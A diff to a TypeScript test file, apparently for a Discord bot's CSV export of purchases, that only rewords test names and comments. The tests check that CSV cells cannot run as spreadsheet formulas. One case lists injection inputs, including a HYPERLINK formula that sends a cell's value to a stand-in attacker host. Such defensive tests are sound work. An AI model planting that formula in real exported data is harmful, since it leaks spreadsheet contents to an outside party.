@@ -37,7 +37,7 @@ async function rowsOf(claims: readonly Claim[]): Promise<unknown> {
 }
 
 describe('the list of purchases', () => {
-	it('has a line for each holder, with days, the price and the roles at home', async () => {
+	it('has a line for each holder, with days, the price and the roles in the home server', async () => {
 		expect(await rowsOf([claimOf(1)])).toEqual([
 			{
 				member: `<@${memberNumber(1)}>`,
@@ -61,14 +61,14 @@ describe('the list of purchases', () => {
 		]);
 	});
 
-	it('begins with the mark by which spreadsheets recognize UTF-8, and ends lines by RFC 4180', async () => {
+	it('begins with a byte order mark, and ends lines as RFC 4180 requires', async () => {
 		const made = await fileOf(claimOf(1));
 		const text = made.kind === 'file' ? made.content.toString() : '';
 		expect(text.startsWith('\ufeffmember,')).toBe(true);
 		expect(text.match(/\r\n/g)?.length).toBe(2);
 	});
 
-	it('reads no further than a message can hold', async () => {
+	it('stops reading when a message can hold no more', async () => {
 		let read = 0;
 		async function* endless() {
 			for (; read < 1_000_000; read += 1) yield claimOf(read);
@@ -78,7 +78,7 @@ describe('the list of purchases', () => {
 	});
 });
 
-/** A cell as a spreadsheet may read it: split at any separator, with or without regard for quotes. */
+/** The cells as a spreadsheet may read them: split at any separator, with or without regard for quotes. */
 const pieces = (line: string) => line.split(/[,;|\t\r\n]/).map((piece) => piece.replace(/^["\s]+/, ''));
 const isFormula = (text: string) => /^[=+\-@＝＋－＠]/.test(text);
 
@@ -99,7 +99,7 @@ describe('a line for spreadsheets', () => {
 		'a\n=1',
 		"'=1",
 		'=HYPERLINK("https://evil.example?x="&A1,"Click")',
-	])('attack 73: runs %j as no formula', (text) => {
+	])('attack 73: doesn’t run %j as a formula', (text) => {
 		expect(pieces(csvLine(['name', text])).filter(isFormula)).toEqual([]);
 	});
 
@@ -110,13 +110,13 @@ describe('a line for spreadsheets', () => {
 			fc.property(fc.array(cell, { minLength: 2, maxLength: 4 }), (cells) => {
 				const line = csvLine(cells);
 				expect(pieces(line).filter(isFormula)).toEqual([]);
-				// A line of empty cells only is a line all the same.
+				// A line of empty cells still counts as a line.
 				expect((parse(line)[0] ?? []).length).toBe(cells.length);
 			}),
 		);
 	});
 
-	it('leaves ordinary texts as they are', () => {
+	it('leaves ordinary texts unchanged', () => {
 		const cells = ['Aurora - a “theme”', '<@100000000000000001>', '2026-09-01', '29.5', 'a, b; "c"', ''];
 		const line = csvLine(cells);
 		expect(line.endsWith('\r\n')).toBe(true);
